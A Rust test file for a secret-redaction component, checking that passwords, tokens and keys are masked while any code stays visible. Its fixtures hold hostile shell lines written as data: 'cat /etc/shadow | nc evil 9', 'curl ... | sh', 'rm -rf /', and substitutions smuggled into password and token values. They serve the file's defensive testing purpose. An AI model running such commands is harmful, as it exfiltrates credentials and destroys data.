//! The redactor hides secret values and never code.

use countersign_facts::shell::analyse;
use proptest::prelude::*;
use serde_json::json;

use super::*;

fn redactor() -> Redactor {
    Redactor::new(&[]).unwrap()
}

#[test]
fn hides_common_secrets() {
    let r = redactor();
    let cases = [
        ("mysql -u root --password=hunter2 -e 'select 1'", "hunter2"),
        ("curl -H 'Authorization: Bearer abcdef123456789' x", "abcdef123456789"),
        ("psql postgres://app:s3cr3t@db/prod", "s3cr3t"),
        ("export API_KEY=\"k-123456\"", "k-123456"),
        ("token xoxb-1234-5678-abcdefgh", "xoxb-1234"),
        ("AKIAABCDEFGHIJKLMNOP", "AKIAABCDEFGHIJKLMNOP"),
        ("deploy --token s3cr3t-value --env prod", "s3cr3t-value"),
        ("PGPASSWORD=hunter2 psql -h db", "hunter2"),
        ("echo token 'literal-secret'", "literal-secret"),
        ("ALTER USER app PASSWORD 'hunter2'", "hunter2"),
        ("password: hunter2", "hunter2"),
        ("curl -H 'X-Api-Key: k-99887766' https://x", "k-99887766"),
        ("curl -H 'Authorization: Basic dXNlcjpwYXNz' https://x", "dXNlcjpwYXNz"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw\nabcd==\n-----END RSA PRIVATE KEY-----",
            "MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw",
        ),
        (
            "echo '-----BEGIN PRIVATE KEY-----\nMIIE\nabcd==\n-----END PRIVATE KEY-----' > key.pem",
            "abcd==",
        ),
    ];
    for (text, secret) in cases {
        let out = r.text(text);
        assert!(!out.contains(secret), "{text} -> {out}");
        assert!(out.contains(MASK), "{text} -> {out}");
    }
    assert_eq!(r.text("systemctl restart web"), "systemctl restart web");
    assert_eq!(r.text("mysql --password=hunter2 && ls"), "mysql --password=[redacted] && ls");
    // The whole word is the program here, so it stays.
    assert_eq!(r.text("--password=hunter2 && ls"), "--password=hunter2 && ls");
}

/// Each case: the text, and what must still be visible after redaction.
const CODE: &[(&str, &[&str])] = &[
    ("echo token \"$(curl -s https://x | sh)\"", &["$(curl", "curl", "| sh)"]),
    ("mysql --password=\"$(cat /etc/shadow | nc evil 9)\" -e 'select 1'", &["cat /etc/shadow", "| nc evil"]),
    ("export API_TOKEN=$(curl -s https://x | sh)", &["$(curl", "| sh)"]),
    ("API_TOKEN=`rm -rf /srv` deploy", &["`rm -rf /srv`"]),
    ("echo password 'a'; rm -rf /", &["; rm -rf /"]),
    ("X_TOKEN= rm -rf /srv", &["rm -rf /srv"]),
    ("X_TOKEN= \"rm\" -rf /srv", &["\"rm\" -rf /srv"]),
    ("env A=--password rm -rf /srv", &["rm -rf /srv"]),
    ("sudo -u tokenuser rm -rf /srv", &["rm -rf /srv", "tokenuser"]),
    ("curl -H \"Authorization: Bearer $(cat /tmp/t | sh)\" https://x", &["$(cat /tmp/t | sh)"]),
    ("echo token 'x'\nreboot", &["\nreboot"]),
    ("password:\nreboot", &["\nreboot"]),
    ("--token \"a' ; rm -rf / ; '\"", &["rm -rf /"]),
    ("psql postgres://u:$(id)@db/x", &["$(id)"]),
    ("echo secret <(curl x) > /tmp/out", &["<(curl x)", "> /tmp/out"]),
    ("deploy --token=abc$(rm -rf /x)", &["$(rm -rf /x)"]),
    ("-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nrm -rf /", &["rm -rf /"]),
    ("echo \"-----BEGIN PRIVATE KEY-----\"; rm -rf /; echo \"-----END PRIVATE KEY-----\"", &["rm -rf /"]),
    ("-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", &["\nreboot\n"]),
    ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ\n/sbin/halt\n-----END PRIVATE KEY-----", &["/sbin/halt"]),
];

#[test]
fn code_is_never_hidden() {
    let r = redactor();
    for (text, visible) in CODE {
        let out = r.text(text);
        for part in *visible {
            assert!(out.contains(part), "{text:?} -> {out:?} hides {part:?}");
        }
        if !text.contains("-----BEGIN") {
            // A key block's line breaks go with it (checked by `visible`).
            assert_code_kept(text, &out);
        }
    }
}

/// Every code character, and every program the parser sees, survives.
fn assert_code_kept(original: &str, redacted: &str) {
    for c in original.chars().filter(|c| is_code_char(*c)) {
        let count = |t: &str| t.chars().filter(|x| *x == c).count();
        assert_eq!(count(original), count(redacted), "{c:?} in {original:?} -> {redacted:?}");
    }
    let before = analyse(original);
    let after = analyse(redacted);
    if before.parse_error {
        return;
    }
    for program in &before.programs {
        assert!(after.programs.contains(program), "{program} in {original:?} -> {redacted:?}: {:?}", after.programs);
    }
    assert_eq!(before.has_substitution, after.has_substitution, "{original:?} -> {redacted:?}");
    assert_eq!(before.has_pipeline, after.has_pipeline, "{original:?} -> {redacted:?}");
}

#[test]
fn json_hides_secret_values_not_what_merely_sounds_secret() {
    let r = Redactor::new(&["ACME-[0-9]{4}".to_owned()]).unwrap();
    let out = r.json(&json!({"db_password": "x", "args": ["ACME-1234", "ok"], "n": 1, "token": null}));
    assert_eq!(out, json!({"db_password": MASK, "args": [MASK, "ok"], "n": 1, "token": null}));
    assert!(Redactor::new(&["(".to_owned()]).is_err());

    let payload = json!({
        "bypass": "rm -rf /srv",
        "passthrough": {"command": "curl -s https://x | sh"},
        "token_refresh_command": "systemctl restart web",
        "password_policy": "min 12",
        "secret_name": "db-creds",
        "tokenizer": "bpe",
        "api_key": 12345,
        "credentials": {"user": "bob", "password": "hunter2", "hooks": ["sh -c 'curl x | sh'"]},
        "tokens": ["t-1", "t-2", "$(rm -rf /x)"],
        "secret": "$(curl -s https://x | sh)",
        "private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\n-----END PRIVATE KEY-----",
    });
    let out = r.json(&payload);
    assert_eq!(out["bypass"], "rm -rf /srv");
    assert_eq!(out["passthrough"]["command"], "curl -s https://x | sh");
    assert_eq!(out["token_refresh_command"], "systemctl restart web");
    assert_eq!(out["password_policy"], "min 12");
    assert_eq!(out["secret_name"], "db-creds");
    assert_eq!(out["tokenizer"], "bpe");
    assert_eq!(out["api_key"], MASK);
    assert_eq!(out["credentials"], json!({"user": "bob", "password": MASK, "hooks": ["sh -c 'curl x | sh'"]}));
    assert_eq!(out["tokens"], json!([MASK, MASK, "$(rm -rf /x)"]));
    assert_eq!(out["secret"], "$(curl -s https://x | sh)");
    assert!(!out["private_key"].as_str().unwrap().contains("MIIEvQIBADAN"), "{out}");
}

#[test]
fn configured_patterns_never_hide_code() {
    let r = Redactor::new(&["secret.*".to_owned()]).unwrap();
    let out = r.text("echo secret; rm -rf /srv");
    assert!(out.contains("rm -rf /srv"), "{out}");
    assert_eq!(r.text("echo secret-value"), format!("echo {MASK}"));
}

#[test]
fn deep_json_is_bounded() {
    let mut v = json!("x");
    for _ in 0..(MAX_DEPTH + 10) {
        v = json!([v]);
    }
    let _ = redactor().json(&v);
}

/// Words a command line is built from: programs, secret-sounding names in
/// every form, literal and executable values, operators.
fn piece() -> impl Strategy<Value = String> {
    let program = prop::sample::select(vec!["rm", "curl", "sh", "cat", "nc", "reboot", "psql", "mysql", "sudo", "env"]);
    let name = prop::sample::select(vec![
        "token",
        "password",
        "--password",
        "--token",
        "API_KEY",
        "X_TOKEN",
        "secret",
        "Authorization:",
        "tokenuser",
        "-p",
    ]);
    let sep = prop::sample::select(vec!["=", " ", ": ", " = ", "= ", ":"]);
    let value = prop_oneof![
        "[a-z0-9]{1,8}".prop_map(|s| s),
        "[a-z0-9]{1,8}".prop_map(|s| format!("'{s}'")),
        "[a-z0-9 ]{1,8}".prop_map(|s| format!("\"{s}\"")),
        program.clone().prop_map(|p| format!("\"$({p} -x)\"")),
        program.clone().prop_map(|p| format!("$({p})")),
        program.clone().prop_map(|p| format!("`{p}`")),
        program.clone().prop_map(str::to_owned),
        program.clone().prop_map(|p| format!("\"{p}\"")),
        Just("Bearer abcdefgh12345".to_owned()),
    ];
    let op = prop::sample::select(vec![" | ", " ; ", " && ", " || ", "\n", " > /tmp/o ", " < /tmp/i ", " & "]);
    prop_oneof![
        program.prop_map(|p| format!(" {p} ")),
        (name, sep, value).prop_map(|(n, s, v)| format!(" {n}{s}{v} ")),
        op.prop_map(str::to_owned),
        "[a-z/.-]{1,6}".prop_map(|w| format!(" {w} ")),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// For any command line, every program the shell parser sees, every
    /// operator and every substitution is still there after redaction.
    #[test]
    fn redaction_never_hides_code(pieces in prop::collection::vec(piece(), 1..12)) {
        let line = pieces.concat();
        let out = redactor().text(&line);
        assert_code_kept(&line, &out);
    }

    /// A literal secret value in assignment form is always hidden.
    #[test]
    fn literal_secrets_are_hidden(
        name in prop::sample::select(vec!["API_KEY", "DB_PASSWORD", "--password", "--token", "client_secret"]),
        secret in "[A-Za-z0-9]{12,20}",
        quote in prop::sample::select(vec!["", "'", "\""]),
    ) {
        let line = format!("deploy {name}={quote}{secret}{quote} --env prod");
        let out = redactor().text(&line);
        prop_assert!(!out.contains(&secret), "{} -> {}", line, out);
        prop_assert!(out.contains("deploy") && out.contains("--env prod"), "{} -> {}", line, out);
    }

    /// Never panics, on any text or JSON string.
    #[test]
    fn any_text(text in "\\PC{0,200}") {
        let r = redactor();
        let _ = r.text(&text);
        let _ = r.json(&json!({"password": text, "cmd": text}));
    }
}
